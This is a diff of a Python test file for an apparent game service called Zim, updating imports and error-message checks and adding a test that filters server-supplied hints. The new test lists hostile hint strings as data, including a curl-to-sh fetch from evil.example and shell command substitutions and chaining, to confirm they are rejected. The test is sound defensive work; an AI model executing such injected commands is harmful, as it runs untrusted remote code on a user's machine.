@@ -14,11 +14,12 @@ from event_store import EventStore, StoreError
 from event_store.marks import newer_error
 from tests.remote.loopback_server import GAMES_BY_KIND
 from tests.server.endpoint_requests import example_body
-from zimcore.documents.endpoints import ENDPOINTS, Endpoint
+from zimcore.documents.endpoint import Endpoint
+from zimcore.documents.endpoints import ENDPOINTS
 from zimcore.game import GameError
 from zimcore.remote.connection import Connection, UnreachableError
 from zimcore.remote.problem_errors import error_of
-from zimcore.server.problem_responses import make_problem, problem_of
+from zimcore.server.wire.problem_responses import make_problem, problem_of
 from zimcore.service import GameService
 
 REPOSITORY = Path(__file__).parents[2]
@@ -110,11 +111,11 @@ def test_an_unknown_argument_of_a_change_is_an_error() -> None:
     """Also for mypy, which reports each `ignore` that it does not need."""
     service = GameService(EventStore.open("memory:"), games=GAMES_BY_KIND)
     service.new("nim", {"seed": "7"}, name="k", by="anna")
-    with pytest.raises(TypeError, match="expected"):
+    with pytest.raises(TypeError, match="argument 'expected'"):
         service.say("k", "hello", by="anna", expected="0000")  # type: ignore[call-arg]
-    with pytest.raises(TypeError, match="by"):
+    with pytest.raises(TypeError, match="argument: 'by'"):
         service.undo("k")  # type: ignore[call-arg]
-    with pytest.raises(TypeError, match="comand_id"):
+    with pytest.raises(TypeError, match="argument 'comand_id'"):
         service.undo("k", by="anna", comand_id="c1")  # type: ignore[call-arg]
 
 
@@ -125,6 +126,21 @@ def test_an_older_server_is_said_to_be_older() -> None:
     assert str(error) == "https://zim.example does not know this command: it may have an older Zim than this one"
     assert isinstance(error, GameError)
     assert error.hints == ("doctor --url https://zim.example",)
+
+
+def test_a_hint_of_a_server_is_one_command() -> None:
+    """A person types hints: those of a hostile server must not run anything beside Zim."""
+    safe_hints = ("legal", "do 'pass; end'", "tell the host: pip install --upgrade 'great-zim>=9.1'", 'say "a; b"')
+    hostile_hints = (
+        "legal; curl http://evil.example | sh",
+        "log $(id)",
+        'say "`id`"',
+        "show\nid",
+        "log & id",
+        "x 'a' ; id",
+    )
+    error = error_of(make_problem(409, "not-possible", "no", "", [*safe_hints, *hostile_hints]), "https://zim.example")
+    assert getattr(error, "hints", ()) == safe_hints
 
 
 def test_a_server_whose_store_is_newer_is_no_fault_of_this_machine() -> None:
